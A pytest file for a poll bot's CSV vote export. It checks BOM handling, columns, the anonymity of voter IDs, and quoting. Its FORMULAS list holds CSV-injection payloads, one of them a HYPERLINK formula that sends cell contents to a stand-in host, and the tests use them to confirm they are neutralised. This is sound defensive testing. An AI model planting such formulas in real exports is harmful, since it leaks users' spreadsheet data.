"""The CSV export: one row per vote, readable by spreadsheets, anonymous polls stay anonymous."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import poll_factory
import pytest

from bot.polls.export import votes_csv
from bot.polls.models import Poll, StoredVote

BOM = "\ufeff".encode()
VOTED_AT = 1_700_000_000.0  # 2023-11-14T22:13:20+00:00


@pytest.fixture
def make_poll() -> Callable[..., Poll]:
    """`make_poll(question=..., options=..., closed_at=...)` builds a `Poll` without a database."""
    return poll_factory.make_poll


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_export_starts_with_a_utf8_bom(make_poll):
    assert votes_csv(make_poll(), []).startswith(BOM)


def test_export_has_the_bom_only_once(make_poll):
    assert votes_csv(make_poll(), [StoredVote(0, 1, VOTED_AT)]).count(BOM) == 1


def test_public_poll_columns(make_poll):
    assert _rows(votes_csv(make_poll(), []))[0] == ["poll", "option_number", "option", "voter_id", "voted_at"]


def test_anonymous_poll_has_no_voter_column(make_poll):
    header = _rows(votes_csv(make_poll(anonymous=True), []))[0]
    assert header == ["poll", "option_number", "option", "voted_at"]


def test_anonymous_poll_rows_do_not_contain_voter_ids(make_poll):
    data = votes_csv(make_poll(anonymous=True), [StoredVote(1, 987654321987654321, VOTED_AT)])
    assert b"987654321987654321" not in data
    assert _rows(data)[1] == ["1", "2", "Sushi", "2023-11-14T22:13:20+00:00"]


def test_one_row_per_vote_with_one_based_option_number(make_poll):
    votes = [StoredVote(0, 11, VOTED_AT), StoredVote(1, 12, VOTED_AT + 1)]
    rows = _rows(votes_csv(make_poll(number=5), votes))
    assert rows[1:] == [
        ["5", "1", "Pizza", "11", "2023-11-14T22:13:20+00:00"],
        ["5", "2", "Sushi", "12", "2023-11-14T22:13:21+00:00"],
    ]


def test_voter_id_is_written_in_full_not_as_a_float(make_poll):
    data = votes_csv(make_poll(), [StoredVote(0, 987654321987654321, VOTED_AT)])
    assert _rows(data)[1][3] == "987654321987654321"


def test_non_ascii_answers_survive_the_round_trip(make_poll):
    options = ("Café ☕", "Ünïcödé 🎉", "日本語")
    data = votes_csv(make_poll(options=options), [StoredVote(i, i, VOTED_AT) for i in range(3)])
    assert [row[2] for row in _rows(data)[1:]] == list(options)


def test_answers_with_commas_quotes_and_newlines_are_quoted(make_poll):
    option = 'Yes, "really"\nyes'
    data = votes_csv(make_poll(options=(option, "No")), [StoredVote(0, 1, VOTED_AT)])
    assert _rows(data)[1][2] == option


def test_rows_end_with_crlf(make_poll):
    data = votes_csv(make_poll(), [StoredVote(0, 1, VOTED_AT)])
    assert data.count(b"\r\n") == 2 and data.endswith(b"\r\n")


def test_export_without_votes_is_just_the_header(make_poll):
    assert len(_rows(votes_csv(make_poll(), []))) == 1


# ------------------------------------------------------------------ formulas (CSV injection)

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"ok")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1",
    "  =1+1",  # some spreadsheets skip leading spaces
    "＝1+1",  # full-width equals sign
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_answers_a_spreadsheet_would_evaluate_are_prefixed_with_a_quote(make_poll, formula):
    data = votes_csv(make_poll(options=(formula, "No")), [StoredVote(0, 1, VOTED_AT)])
    assert _rows(data)[1][2] == "'" + formula


@pytest.mark.parametrize("option", ["Yes", "1+1", "Pizza = good", "a-b", "e@mail", "'quoted", "12"])
def test_other_answers_are_exported_as_typed(make_poll, option):
    data = votes_csv(make_poll(options=(option, "No")), [StoredVote(0, 1, VOTED_AT)])
    assert _rows(data)[1][2] == option


def test_no_cell_of_a_hostile_export_starts_like_a_formula(make_poll):
    poll = make_poll(options=tuple(FORMULAS))
    rows = _rows(votes_csv(poll, [StoredVote(i, 10 + i, VOTED_AT) for i in range(len(FORMULAS))]))
    for row in rows:
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝")), row
            assert not cell.startswith(("\t", "\r", "\n")), row
